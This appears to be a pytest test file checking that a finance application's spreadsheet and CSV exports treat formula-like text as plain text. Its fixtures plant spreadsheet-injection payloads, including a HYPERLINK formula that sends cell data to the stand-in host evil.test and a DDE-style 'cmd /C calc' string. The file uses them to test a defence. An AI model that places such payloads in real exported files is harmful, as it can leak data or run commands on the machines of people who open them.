"""Exports cannot run anything in the spreadsheet that opens them: text starting with `=`, `+`, `-`,
`@`, a tab or a carriage return comes back as text (a string cell in .xlsx, a leading `'` in CSV),
while amounts and dates stay numbers and dates. Every file is built by the real job in the worker,
downloaded and read back with openpyxl, zipfile and csv."""
import csv
import io
import re
import zipfile
from datetime import date, datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from domain.collection import files as collection_files
from domain.models import BulkRun, Export, ReminderActivity, ReminderEntry
from domain.reminders.bulk import DunningLine, DunningReport
from files.cells import csv_cell
from files.reports import write_dunning_report

HTMX = {"HX-Request": "true"}
STARTS = ["=", "+", "-", "@", "\t", "\r"]
MONEY_FORMAT = "#,##0.00"


def evil(start: str, what: str = 'HYPERLINK("http://evil.test/?"&A1,"Pay here")') -> str:
    return f"{start}{what}"


def as_read_back(text: str) -> str:
    """XML turns a carriage return into a newline when read: the cell is still the same text."""
    return text.replace("\r", "\n")


def export_id_of(html: str) -> int:
    return int(re.search(r'id="export-(\d+)"', html).group(1))


def download(client, export_id: int) -> bytes:
    response = client.get(f"/exports/{export_id}/download")
    assert response.status_code == 200, response.get_data(as_text=True)
    return response.data


def assert_no_formula(xlsx: bytes, planted: set[str]) -> None:
    """No sheet of the workbook holds a formula, and every planted text is a whole string cell."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >/]", archive.read(name)), name
    found = set()
    for sheet in load_workbook(io.BytesIO(xlsx)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if cell.value in planted:
                    assert cell.data_type == "s", (cell.coordinate, cell.value)
                    found.add(cell.value)
    assert found == planted


@pytest.fixture
def dangerous(session, ledger_builder):
    """One customer per dangerous first character, in its account, its name and its entry number."""
    customers = []
    for n, start in enumerate(STARTS):
        customer = ledger_builder.customer(f"{start}A{n}", evil(start), emails=f"ap{n}@client.test")
        ledger_builder.entry(customer, 40, f"{100 + n}.25", level=1, number=evil(start, f"INV-{n}"))
        customers.append(customer)
    session.commit()
    return customers


def test_who_owes_you_what_export_writes_text_as_text(finance_client, dangerous, run_jobs):
    export_id = export_id_of(finance_client.post("/exports/balances", data={}).get_data(as_text=True))
    run_jobs()
    xlsx = download(finance_client, export_id)

    planted = {as_read_back(text) for c in dangerous for text in (c.account, c.name)}
    assert_no_formula(xlsx, planted)
    sheet = load_workbook(io.BytesIO(xlsx)).active
    header = [cell.value for cell in sheet[2]]
    rows = {row[0].value: dict(zip(header, row)) for row in sheet.iter_rows(min_row=3)}
    assert set(rows) == {as_read_back(c.account) for c in dangerous}
    for n, customer in enumerate(dangerous):
        row = rows[as_read_back(customer.account)]
        assert row["Customer"].value == as_read_back(customer.name) and row["Customer"].data_type == "s"
        total = row["Total"]
        assert total.data_type == "n" and total.number_format == MONEY_FORMAT
        assert float(total.value) == pytest.approx(100.25 + n)
        assert row["Disputed"].data_type == "n" and row["Disputed"].value == 0


def test_collection_export_writes_text_as_text(finance_client, session, users, dangerous, run_jobs):
    for customer in dangerous:
        collection_files.start_collection_file(session, users["finance"], customer,
                                               [entry.id for entry in customer.entries])
    session.commit()
    export_id = export_id_of(finance_client.post("/collection/export", data={}).get_data(as_text=True))
    run_jobs()
    xlsx = download(finance_client, export_id)

    planted = {as_read_back(text) for c in dangerous for text in (c.account, c.name, c.entries[0].number)}
    assert_no_formula(xlsx, planted)
    sheet = load_workbook(io.BytesIO(xlsx)).active
    header = [cell.value for cell in sheet[2]]
    for row in sheet.iter_rows(min_row=3):
        cells = dict(zip(header, row))
        assert cells["Amount"].data_type == "n" and cells["Amount"].number_format == MONEY_FORMAT
        assert cells["Due date"].is_date and isinstance(cells["Due date"].value, datetime)
        assert cells["Marked on"].is_date


def test_the_collection_files_summary_writes_text_as_text(finance_client, session, ledger_builder, run_jobs):
    customer = ledger_builder.customer("=C900", evil("="), emails="+ap@client.test", phone="+33 1 23 45 67 89",
                                       address="@evil\n75001 Paris", registration_number="-1+1")
    entries = [ledger_builder.entry(customer, 40 + n, "1234.56", level=2, number=evil(start, f"INV-{n}"))
               for n, start in enumerate(STARTS)]
    activity = ReminderActivity(customer_id=customer.id, sent_at=datetime(2026, 5, 1, 9, 30), channel="email",
                                level=2, sender="-sender@us.test", recipient="+ap@client.test",
                                subject=evil("@", "SUM(1+1)*cmd|' /C calc'!A0"), body="Please pay.")
    activity.covered = [ReminderEntry(entry_id=entries[0].id, open_cents=entries[0].open_cents)]
    session.add(activity)
    session.commit()

    response = finance_client.post("/customers/=C900/collection-file", headers=HTMX,
                                   data={"entry": [e.id for e in entries], "mark_in_collection": "1"})
    assert response.status_code == 200
    run_jobs()
    export = session.scalar(select(Export).where(Export.kind == "collection_file"))
    with zipfile.ZipFile(io.BytesIO(download(finance_client, export.id))) as archive:
        (name,) = [n for n in archive.namelist() if n.endswith(".xlsx")]
        xlsx = archive.read(name)

    planted = {"=C900", evil("="), "+ap@client.test", "+33 1 23 45 67 89", "@evil\n75001 Paris", "-1+1",
               "-sender@us.test", activity.subject, *(as_read_back(e.number) for e in entries)}
    assert_no_formula(xlsx, planted)
    workbook = load_workbook(io.BytesIO(xlsx))
    rows = list(workbook.worksheets[0].iter_rows())
    amounts = [row[4] for row in rows if row[0].value in {as_read_back(e.number) for e in entries}]
    assert len(amounts) == len(STARTS)
    assert all(cell.data_type == "n" and float(cell.value) == pytest.approx(1234.56) for cell in amounts)
    issue_dates = [row[2] for row in rows if row[0].value in {as_read_back(e.number) for e in entries}]
    assert all(isinstance(cell.value, datetime) for cell in issue_dates)
    reminder = list(workbook.worksheets[1].iter_rows())[1]
    assert reminder[0].value == datetime(2026, 5, 1, 9, 30)
    assert reminder[7].data_type == "n" and float(reminder[7].value) == pytest.approx(1234.56)


def test_the_bulk_reminders_report_prefixes_formula_like_text(finance_client, session, dangerous, company, mail,
                                                                run_jobs):
    from tests.web.conftest import plan_and_confirm

    finance_client.post("/reminders/bulk", data={"all": "1"}, headers=HTMX)
    plan_and_confirm(finance_client, session, run_jobs)
    run_jobs()
    session.expire_all()
    run = session.scalar(select(BulkRun))
    response = finance_client.get(f"/reminders/bulk/{run.id}/report")
    assert response.status_code == 200
    text = response.get_data().decode("utf-8-sig")

    rows = {row["Customer account"]: row for row in csv.DictReader(io.StringIO(text))}
    assert set(rows) == {"'" + c.account for c in dangerous}
    for n, customer in enumerate(dangerous):
        row = rows["'" + customer.account]
        assert row["Customer"] == "'" + customer.name
        assert row["Entries"] == "'" + customer.entries[0].number
        assert (row["Outcome"], row["Level"], row["Amount"], row["Currency"]) == ("sent", "R2", f"{100 + n}.25", "EUR")
    assert len(mail.messages) == len(STARTS)


def test_the_report_writer_prefixes_every_text_column(tmp_path):
    report = DunningReport([DunningLine(account="@A1", name=evil("="), outcome="failed", reason=evil("-", "1+1"),
                                        level=None, numbers=("+INV-1", "INV-2"),
                                        amounts=(("EUR", 12050), ("USD", 99)))])
    write_dunning_report(tmp_path / "report.csv", report)

    with open(tmp_path / "report.csv", newline="", encoding="utf-8-sig") as handle:
        (row,) = csv.DictReader(handle)
    assert row == {"Customer account": "'@A1", "Customer": "'" + evil("="), "Outcome": "failed",
                   "Reason": "'-1+1", "Level": "", "Entries": "'+INV-1 INV-2", "Amount": "120.50; 0.99",
                   "Currency": "EUR; USD"}


def test_csv_leaves_numbers_and_plain_text_alone():
    assert [csv_cell(v) for v in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx")] == [
        "'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx"]
    assert [csv_cell(v) for v in ("Acme", "a=b", "", -5, 12.5, date(2026, 6, 1), None)] == [
        "Acme", "a=b", "", -5, 12.5, date(2026, 6, 1), None]
